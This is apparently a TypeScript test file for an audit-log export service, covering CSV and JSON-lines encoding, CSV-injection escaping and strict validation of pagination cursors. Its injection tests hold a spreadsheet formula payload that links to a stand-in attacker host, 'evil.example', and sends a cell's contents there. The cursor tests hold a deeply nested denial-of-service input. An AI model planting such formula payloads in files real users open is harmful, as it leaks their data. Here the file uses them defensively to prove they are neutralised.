import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import { chainEvent, GENESIS_HASH } from '../../lambdas/core/audit/audit-chain.js';
import {
  CSV_COLUMNS,
  csvFields,
  csvText,
  DIGEST_START,
  escapeCsvCell,
  eventRecord,
  formatRecords,
  jsonlLine,
  nextDigest,
  parseCsvCell,
  type ExportRecord,
} from '../../lambdas/core/audit/audit-export.js';
import {
  decodeCursor,
  encodeCursor,
  parseCsvRecord,
  parseJsonlRecord,
  type ExportPosition,
} from '../../lambdas/core/audit/export-parse.js';
import { NOW, sampleStore } from './audit-fixture.js';

// The two encodings of an export file: what a CSV parser and a JSON-lines reader see, and how strictly a record
// is read back.

let records: ExportRecord[];

beforeAll(async () => {
  records = await (await sampleStore()).exportAll({ format: 'csv' }, NOW);
});

const awkward = chainEvent(undefined, {
  requestId: 'req_x',
  at: '2030-03-04T09:00:00.000Z',
  type: 'checks.completed',
  actor: 'ada@example.org',
  data: { message: 'A "quoted", comma\nand a new line', emoji: '😀', formula: '=HYPERLINK("x")', n: 1.5 },
});

describe('CSV', () => {
  it('opens in a CSV parser with the fixed header and one row per record', () => {
    // Prepare
    const text = csvText(records, true);

    // Act
    const rows = parse(text, { columns: true }) as Array<Record<string, string>>;
    const header = (parse(text, { to_line: 1 }) as string[][])[0];

    // Assess
    expect(header).toEqual(['requestId', 'seq', 'at', 'type', 'actor', 'data', 'prevHash', 'hash', 'kind']);
    expect(rows).toHaveLength(records.length);
    expect(rows[1]).toMatchObject({
      requestId: 'req_a',
      seq: '1',
      type: 'request.submitted',
      actor: 'ada@example.org',
      prevHash: GENESIS_HASH,
      kind: 'event',
    });
    expect(rows.map((r) => r['kind'])).toEqual(records.map((r) => r.kind));
  });

  it("keeps an event's data as canonical JSON in one cell, whatever it contains", () => {
    // Prepare
    const text = csvText([eventRecord(awkward)], true);

    // Act
    const [row] = parse(text, { columns: true }) as Array<Record<string, string>>;
    const back = parseCsvRecord(CSV_COLUMNS.map((c) => row?.[c] ?? ''));

    // Assess
    expect(row?.['data']).toBe('{"emoji":"😀","formula":"=HYPERLINK(\\"x\\")","message":"A \\"quoted\\", comma\\nand a new line","n":1.5}');
    expect(back).toEqual(eventRecord(awkward));
  });

  it('reads back every kind of record it writes', () => {
    // Prepare
    const rows = records.map(csvFields);

    // Act
    const back = rows.map((r) => parseCsvRecord(r));

    // Assess
    expect(back).toEqual(records);
  });

  it('refuses a data column that is not in canonical form', () => {
    // Prepare: same JSON, keys in another order
    const fields = csvFields(eventRecord(awkward));
    fields[5] = JSON.stringify({ n: 1.5, message: 'A "quoted", comma\nand a new line', emoji: '😀', formula: '=HYPERLINK("x")' });

    // Act
    const act = () => parseCsvRecord(fields);

    // Assess
    expect(act).toThrow('the data column is not in canonical form');
  });

  it('refuses a row whose columns disagree with the record in its data', () => {
    // Prepare: a checkpoint row whose hash column was changed
    const index = records.findIndex((r) => r.kind === 'checkpoint');
    const fields = csvFields(records[index] as ExportRecord);
    fields[7] = 'f'.repeat(64);

    // Act
    const act = () => parseCsvRecord(fields);

    // Assess
    expect(act).toThrow('the columns of this checkpoint row do not match its data');
  });
});

describe('CSV injection (issue #11)', () => {
  const RISKY = /^[=+\-@\t\r]/u;
  // An outsider's address as a mail's From, and other values an event may carry in its plain columns.
  const outsider = chainEvent(undefined, {
    requestId: 'req_x',
    at: '2030-03-04T09:00:00.000Z',
    type: 'mail.rejected',
    actor: '=HYPERLINK("https://evil.example/?"&A1,"Open")@x.org',
    data: { reason: 'not in the directory' },
  });

  it('writes a cell that a spreadsheet would run as a formula with a quote in front, and reads it back as it was', () => {
    // Prepare
    const text = csvText([eventRecord(outsider)], true);

    // Act
    const [row] = parse(text, { columns: true }) as Array<Record<string, string>>;
    const back = parseCsvRecord(CSV_COLUMNS.map((c) => row?.[c] ?? ''));

    // Assess
    expect(row?.['actor']).toBe('\'=HYPERLINK("https://evil.example/?"&A1,"Open")@x.org');
    expect(Object.values(row ?? {}).filter((cell) => RISKY.test(cell))).toEqual([]);
    expect(back).toEqual(eventRecord(outsider));
  });

  it.each([
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tx', "'\tx"],
    ['\rx', "'\rx"],
    ["'quoted", "''quoted"],
    ['ada@example.org', 'ada@example.org'],
    ['2030-03-04T09:00:00.000Z', '2030-03-04T09:00:00.000Z'],
    ['{"a":"=x"}', '{"a":"=x"}'],
    ['', ''],
  ])('escapes %j as %j', (value, cell) => {
    expect(escapeCsvCell(value)).toBe(cell);
    expect(parseCsvCell(cell, 'actor')).toBe(value);
  });

  it('reads back every string exactly, and never writes a cell beginning with = + - @ tab or CR', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (value) => {
        const cell = escapeCsvCell(value);
        expect(RISKY.test(cell)).toBe(false);
        expect(parseCsvCell(cell, 'actor')).toBe(value);
      }),
      { numRuns: 2_000 },
    );
  });

  it('refuses a row with a formula cell left unescaped, or a quote that is no escape', () => {
    // Prepare: the cell as an older export, or a hand edit, would have it
    const bare = csvFields(eventRecord(outsider));
    bare[4] = String(outsider.actor);
    const needless = csvFields(eventRecord(awkward));
    needless[4] = `'${String(awkward.actor)}`;

    // Act & Assess
    expect(() => parseCsvRecord(bare)).toThrow('the actor column begins with "=" unescaped (a spreadsheet would run it as a formula)');
    expect(() => parseCsvRecord(needless)).toThrow('the actor column has a quote in front that is not an escape');
  });
});

describe('JSON lines', () => {
  it('writes one record per line and reads each back unchanged', () => {
    // Prepare
    const text = formatRecords(records, 'jsonl', false);

    // Act
    const back = text.trimEnd().split('\n').map(parseJsonlRecord);

    // Assess
    expect(text.endsWith('\n')).toBe(true);
    expect(back).toEqual(records);
  });

  it('writes an event as exactly its hashed fields and its kind', () => {
    // Prepare & Act
    const line = JSON.parse(jsonlLine(eventRecord(awkward))) as Record<string, unknown>;

    // Assess
    expect(Object.keys(line)).toEqual(['kind', 'requestId', 'seq', 'at', 'type', 'actor', 'data', 'prevHash', 'hash']);
  });

  it.each([
    ['an unknown field', (o: Record<string, unknown>) => ({ ...o, note: 'x' }), 'unexpected field "note"'],
    [
      'a missing field',
      (o: Record<string, unknown>) => Object.fromEntries(Object.entries(o).filter(([k]) => k !== 'prevHash')),
      'missing field "prevHash"',
    ],
    ['a hash that is not a string', (o: Record<string, unknown>) => ({ ...o, hash: 42 }), 'field "hash" is not a string'],
    ['a seq of zero', (o: Record<string, unknown>) => ({ ...o, seq: 0 }), 'field "seq" is not an integer ≥ 1'],
    [
      'a time without milliseconds',
      (o: Record<string, unknown>) => ({ ...o, at: '2030-03-04T09:00:00Z' }),
      'field "at" is not an ISO 8601 UTC time',
    ],
    ['an unknown kind', (o: Record<string, unknown>) => ({ ...o, kind: 'note' }), 'unknown record kind "note"'],
  ])('refuses an event with %s', (_what, change, message) => {
    // Prepare
    const line = JSON.stringify(change(JSON.parse(jsonlLine(eventRecord(awkward))) as Record<string, unknown>));

    // Act
    const act = () => parseJsonlRecord(line);

    // Assess
    expect(act).toThrow(message);
  });
});

describe('the running digest', () => {
  it('changes with every record that is not an event, and depends on their order', () => {
    // Prepare
    const [header, checkpoint] = records.filter((r) => r.kind === 'export' || r.kind === 'checkpoint') as Array<
      Exclude<ExportRecord, { kind: 'end' }>
    >;
    const event = records.find((r) => r.kind === 'event') as Exclude<ExportRecord, { kind: 'end' }>;
    if (header === undefined || checkpoint === undefined) throw new Error('the sample has a header and checkpoints');

    // Act
    const hc = nextDigest(nextDigest(DIGEST_START, header), checkpoint);
    const ch = nextDigest(nextDigest(DIGEST_START, checkpoint), header);

    // Assess
    expect(hc).toMatch(/^[0-9a-f]{64}$/);
    expect(hc).not.toBe(ch);
    expect(nextDigest(DIGEST_START, header)).not.toBe(DIGEST_START);
    expect(nextDigest(DIGEST_START, event)).toBe(DIGEST_START);
  });
});

describe('the cursor', () => {
  it('carries a position from page to page unchanged', () => {
    // Prepare
    const position: ExportPosition = {
      exportId: 'e1',
      exportedAt: '2030-03-04T12:00:00.000Z',
      format: 'csv',
      filter: { from: '2030-03-04T09:00:00.000Z', to: '2030-03-04T13:00:00.000Z', account: 'physics-x', types: ['decision.recorded'] },
      contents: false,
      sealedUntil: '2030-03-04T12:00:00.000Z',
      after: '2030-03-04T09:40:00.000Z#req_b#0000000002',
      checkpointAfter: 527457,
      header: true,
      contentsDone: false,
      events: 4,
      checkpoints: 1,
      contentCount: 0,
      digest: 'a'.repeat(64),
      page: 3,
    };

    // Act
    const back = decodeCursor(encodeCursor(position));

    // Assess
    expect(back).toEqual(position);
  });

  it('refuses a deeply nested cursor before parsing it', () => {
    // Prepare
    const deep = Buffer.from(`{"exportId":"e","digest":"d","filter":${'['.repeat(60_000)}${']'.repeat(60_000)}}`).toString('base64url');

    // Act
    const act = () => decodeCursor(deep);

    // Assess
    expect(act).toThrow('the cursor is not one this service gave out');
  });

  it('refuses a cursor it did not give out', () => {
    // Prepare & Act
    const act = () => decodeCursor('bm90IGEgY3Vyc29y');

    // Assess
    expect(act).toThrow('the cursor is not one this service gave out');
  });

  // Issue #13, found by the fuzz pass: a cursor is the client's to keep, and a field of another shape reached the
  // store's queries and the day arithmetic (a 500). Each is refused naming the field.
  const given: Record<string, unknown> = {
    exportId: 'e1',
    exportedAt: '2030-03-04T12:00:00.000Z',
    format: 'jsonl',
    filter: { from: '2030-03-04T09:00:00.000Z', to: '2030-03-04T13:00:00.000Z' },
    contents: false,
    sealedUntil: null,
    after: '2030-03-04T09:40:00.000Z#req_b#0000000002',
    checkpointAfter: null,
    header: true,
    contentsDone: false,
    events: 4,
    checkpoints: 0,
    contentCount: 0,
    digest: 'a'.repeat(64),
    page: 1,
    dayDone: '2030-03-03',
  };
  const cursorWith = (changes: Record<string, unknown>) => Buffer.from(JSON.stringify({ ...given, ...changes })).toString('base64url');

  it('takes the position a page gave out, with the day a page stopped after', () => {
    expect(decodeCursor(cursorWith({}))).toEqual(given);
  });

  it.each([
    [{ after: 'x' }, 'field "after" is not a time-index key'],
    [{ after: '2030-99-04T09:40:00.000Z#req_b#0000000002' }, 'field "after" is not an ISO 8601 UTC time'],
    [{ after: 5 }, 'field "after" is not a string'],
    [{ checkpointAfter: 'x' }, 'field "checkpointAfter" is not an integer ≥ 0'],
    [{ exportId: '\ud800' }, 'field "exportId" is not an export id'],
    [{ exportedAt: '2030-02-30T00:00:00.000Z' }, 'field "exportedAt" is not an ISO 8601 UTC time'],
    [{ format: 'xml' }, 'field "format" is not csv or jsonl'],
    [{ page: '\ud800' }, 'field "page" is not an integer ≥ 0'],
    [{ events: -1 }, 'field "events" is not an integer ≥ 0'],
    [{ header: 'yes' }, 'field "header" is not true or false'],
    [{ sealedUntil: 'soon' }, 'field "sealedUntil" is not an ISO 8601 UTC time'],
    [{ dayDone: '2030-13-01' }, 'field "dayDone" is not a day'],
    [{ extra: 1 }, 'unexpected field "extra"'],
    [
      { filter: { from: '2030-03-04T09:00:00.000Z', to: '2030-03-04T13:00:00.000Z', requestId: 'r'.repeat(3_000) } },
      'field "requestId" is not a request id',
    ],
    [
      { filter: { from: '2030-03-04T09:00:00.000Z', to: '2030-03-04T13:00:00.000Z', types: Array.from({ length: 200 }, () => 'a.b') } },
      'field "types" is not a list of at most 50 event types',
    ],
  ])('refuses %j, naming the field', (changes, message) => {
    expect(() => decodeCursor(cursorWith(changes))).toThrow(`the cursor is not one this service gave out: ${message}`);
  });
});
